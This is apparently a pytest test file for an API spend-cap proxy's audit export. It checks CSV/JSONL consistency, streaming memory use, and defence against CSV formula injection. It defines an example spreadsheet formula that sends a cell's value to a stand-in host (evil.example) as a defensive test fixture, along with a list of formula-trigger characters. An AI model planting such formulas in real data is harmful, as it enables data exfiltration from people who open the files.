"""Audit export (GET /v1/audit/export, keybrake audit export): streamed, any size, parses back."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from hypothesis import strategies as st

from keybrake.cli import main
from keybrake.core.audit_lines import EXPORT_FIELDS
from keybrake.core.money import format_usd
from keybrake.core.timefmt import rfc3339
from keybrake.store.base import AuditRow
from keybrake.store.ids import new_audit_id
from keybrake.store.sql_rows import _INSERT_AUDIT, _row_params
from tests.fakes.stripe_server import FakeStripe
from tests.harness import ADMIN_TOKEN, KeybrakeThread, free_port, spawn_keybrake

FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def test_export_matches_the_audit_api(kb: KeybrakeThread, fake_stripe: FakeStripe, tmp_path: Path) -> None:
    key = kb.issue({"daily_usd_cap": 2})
    auth = {**FORM, "Authorization": f"Bearer {key['key']}"}
    for amount in (100, 150, 5000):
        httpx.post(f"{kb.url}/stripe/v1/charges", content=f"amount={amount}&currency=usd&source=tok_visa", headers=auth)
    other = kb.issue({"daily_usd_cap": 2})
    httpx.get(f"{kb.url}/stripe/v1/balance", headers={"Authorization": f"Bearer {other['key']}"})
    api = {r["id"]: r for r in kb.audit(key_id=key["id"])}
    with kb.admin() as c:
        r = c.get("/v1/audit/export", params={"format": "csv", "key_id": key["id"]})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(r.text)))
        assert list(rows[0]) == list(EXPORT_FIELDS)
        assert [x["id"] for x in rows] == sorted(api)  # oldest first, only the filtered key
        for x in rows:
            a = api[x["id"]]
            assert x["cost_usd"] == format_usd(round(a["cost_usd"] * 1_000_000))
            assert x["verdict"] == a["verdict"] and x["ts"] == a["ts"]
            assert (json.loads(x["metadata"]) if x["metadata"] else None) == a["metadata"]
            assert x["reserved_usd"] in ("1", "1.5", "0")
        j = c.get("/v1/audit/export", params={"format": "jsonl"})
        lines = [json.loads(line) for line in j.text.splitlines()]
        assert len(lines) == 4 and list(lines[0]) == list(EXPORT_FIELDS)
        assert {line["id"] for line in lines} >= set(api)
        assert c.get("/v1/audit/export", params={"format": "xml"}).status_code == 400
        assert c.get("/v1/audit/export", params={"limit": "5"}).status_code == 400
    out = tmp_path / "export.jsonl"
    result = CliRunner().invoke(
        main,
        ["audit", "export", "--format", "jsonl", "--key", key["id"], "--out", str(out),
         "--data-dir", str(kb.settings.data_dir)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["id"] for line in out.read_text().splitlines()] == sorted(api)


N_ROWS = 200_000


def _row(i: int, t0: int) -> AuditRow:
    ts = t0 + i
    return AuditRow(
        id=new_audit_id(ts)[:14] + f"{i:016d}",  # deterministic, still in time order
        ts=ts,
        method="POST",
        path="/v1/charges",
        verdict="allowed" if i % 7 else "cap_exceeded",
        key_id=f"vk_bulk{i % 50:04d}",
        label=f"tenant-{i % 5}:agent:run-{i % 50}",
        vendor="stripe",
        credential="default",
        endpoint="POST /v1/charges",
        reason='a reason, with a comma and "quotes"' if i % 11 == 0 else None,
        status=200,
        upstream_status=200,
        cost_usd=i * 10 + 1,
        reserved_usd=i * 10 + 1,
        cost_source="response",
        cost_kind="charge",
        request_summary={"amount": str(i), "currency": "usd"},
        metadata={"agent_run_id": f"run-{i % 50}", "n": str(i)},
        latency_ms=1.25,
    )


def _rss_kb(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(field)


def _csv_records(lines: Iterator[str]) -> Iterator[dict[str, str]]:
    return csv.DictReader(lines)


@pytest.mark.sqlite_only
def test_200k_rows_stream_with_bounded_memory_and_parse_back(tmp_path: Path) -> None:
    data = tmp_path / "big"
    port = free_port()
    env = {"KEYBRAKE_ADMIN_TOKEN": ADMIN_TOKEN}
    proc = spawn_keybrake(data, port, env=env)  # first start: schema, master key
    proc.terminate()
    proc.wait(20)
    t0 = int(time.time() * 1000) - N_ROWS
    with sqlite3.connect(data / "keybrake.db") as conn:
        conn.executemany(_INSERT_AUDIT, (_row_params(_row(i, t0), None, None) for i in range(N_ROWS)))
    proc = spawn_keybrake(data, port, env=env)
    try:
        # A server that has been at work has SQLite's page cache (64 MiB) full: a spend report
        # over every row fills it, so that what follows measures the export, not the cache.
        warm = httpx.get(
            f"http://127.0.0.1:{port}/v1/spend",
            params={"group_by": "vendor", "since": rfc3339(t0 - 1000)},
            headers={"Authorization": f"Bearer {ADMIN_TOKEN}"},
            timeout=120,
        )
        assert warm.status_code == 200, warm.text
        base_rss = _rss_kb(proc.pid, "VmHWM")
        seen = 0
        total_bytes = 0
        with httpx.stream(
            "GET",
            f"http://127.0.0.1:{port}/v1/audit/export",
            params={"format": "csv"},
            headers={"Authorization": f"Bearer {ADMIN_TOKEN}"},
            timeout=120,
        ) as r:
            assert r.status_code == 200

            def lines() -> Iterator[str]:
                nonlocal total_bytes
                for line in r.iter_lines():
                    total_bytes += len(line) + 2
                    yield line

            for rec in _csv_records(lines()):
                want = _row(seen, t0)
                assert rec["id"] == want.id and rec["ts"] == rfc3339(want.ts)
                assert rec["cost_usd"] == format_usd(want.cost_usd) and rec["verdict"] == want.verdict
                assert json.loads(rec["metadata"]) == want.metadata
                assert rec["reason"] == (want.reason or "")
                seen += 1
        peak_rss = _rss_kb(proc.pid, "VmHWM")
    finally:
        proc.terminate()
        proc.wait(20)
    assert seen == N_ROWS
    grew_mb = (peak_rss - base_rss) / 1024
    print(f"exported {N_ROWS} rows, {total_bytes / 1e6:.0f} MB of CSV; server RSS {base_rss / 1024:.0f} MB "
          f"before, peak {peak_rss / 1024:.0f} MB (+{grew_mb:.0f} MB)")  # fmt: skip
    assert total_bytes > 50_000_000
    assert grew_mb < 40, f"the export grew the server by {grew_mb:.0f} MB: it is not streaming"


# -- exports are safe to open (issue 12, kind 7) -----------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"details")'


def test_formula_from_an_agent_is_neutralised_in_csv_and_kept_in_jsonl(
    kb: KeybrakeThread, fake_stripe: FakeStripe
) -> None:
    import stripe

    key = kb.issue({"daily_usd_cap": 50}, label="-tenant:run")
    sc = stripe.StripeClient(key["key"], base_addresses={"api": f"{kb.url}/stripe"}, max_network_retries=0)
    ch = sc.v1.charges.create(
        params={"amount": 100, "currency": "usd", "source": "tok_visa", "customer": "=1+2"},
        options={"idempotency_key": HYPERLINK},
    )
    assert sc.v1.refunds.create(params={"charge": ch.id, "amount": 40}).amount == 40
    api = {r["id"]: r for r in kb.audit(key_id=key["id"])}
    with kb.admin() as c:
        text = c.get("/v1/audit/export", params={"format": "csv", "key_id": key["id"]}).text
        lines = [json.loads(x) for x in c.get("/v1/audit/export", params={"format": "jsonl"}).text.splitlines()]
    rows = list(csv.DictReader(io.StringIO(text)))
    charge = next(r for r in rows if r["path"] == "/v1/charges")
    assert charge["idempotency_key"] == "'" + HYPERLINK
    assert charge["customer_scope_id"] == "'=1+2"
    assert charge["label"] == "'-tenant:run"
    for r in rows:  # money is written as the number it is, never prefixed
        assert r["cost_usd"] == format_usd(round(api[r["id"]]["cost_usd"] * 1_000_000))
    assert all(not v.startswith(FORMULA_CHARS) for r in rows for k, v in r.items() if k not in NUMERIC_COLUMNS)
    # JSON lines keep the exact value: a program reads it, not a spreadsheet.
    j = next(x for x in lines if x["path"] == "/v1/charges")
    assert j["idempotency_key"] == HYPERLINK and j["customer_scope_id"] == "=1+2" and j["label"] == "-tenant:run"


FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")
# Numbers Keybrake writes itself: never formulas, never prefixed (a refund's cost may be negative).
NUMERIC_COLUMNS = {"cost_usd", "reserved_usd", "cap_usage_after_usd", "status", "upstream_status", "latency_ms",
                   "upstream_latency_ms", "overhead_ms", "ts"}  # fmt: skip

TEXT_COLUMNS = ("label", "reason", "customer_scope_id", "idempotency_key", "vendor_object_id", "agent_run_id")
_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40)


def test_generated_text_never_opens_as_a_formula(tmp_path: Path) -> None:
    """Any text an agent can put in a row: every CSV cell read back by the csv module starts with
    a formula character only behind the `'` prefix (and is otherwise the exact value); JSON
    lines round-trip the exact value."""
    import asyncio

    from hypothesis import HealthCheck, given, settings

    from keybrake.admin.audit import export
    from keybrake.store import open_store
    from keybrake.store.base import AuditQuery
    from tests import harness

    store = open_store(harness.DATABASE_URL, tmp_path / "d", migrate=False)
    n = [0]

    @settings(max_examples=harness.examples(150), deadline=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(_text, min_size=len(TEXT_COLUMNS), max_size=len(TEXT_COLUMNS)))
    def check(values: list[str]) -> None:
        n[0] += 1
        texts: dict[str, Any] = dict(zip(TEXT_COLUMNS, values, strict=True))  # str into str | None fields
        row = AuditRow(
            id=new_audit_id(1_800_000_000_000 + n[0]), ts=1_800_000_000_000 + n[0], method="POST",
            path="/v1/charges", verdict="allowed", key_id="vk_gen", cost_usd=-n[0] * 10_000,
            **texts,
        )  # fmt: skip

        async def both() -> tuple[bytes, bytes]:
            await store.insert_audit(row)
            q = AuditQuery(key_id="vk_gen", since=row.ts, until=row.ts + 1)
            return (
                b"".join([c async for c in export(store, q, "csv")]),
                b"".join([c async for c in export(store, q, "jsonl")]),
            )

        csv_bytes, jsonl_bytes = asyncio.run(both())
        (rec,) = list(csv.DictReader(io.StringIO(csv_bytes.decode(), newline="")))
        for col, value in zip(TEXT_COLUMNS, values, strict=True):
            want = "'" + value if value.startswith((*FORMULA_CHARS, "'")) else value
            assert rec[col] == want, col
            assert not rec[col].startswith(FORMULA_CHARS)
            assert (rec[col][1:] if rec[col].startswith("'") else rec[col]) == value  # the reader's rule
        assert rec["cost_usd"] == format_usd(row.cost_usd)  # a number Keybrake wrote: as it is
        (line,) = jsonl_bytes.rstrip(b"\n").split(b"\n")
        got = json.loads(line)
        assert [got[c] for c in TEXT_COLUMNS] == values

    try:
        check()
    finally:
        asyncio.run(store.close())
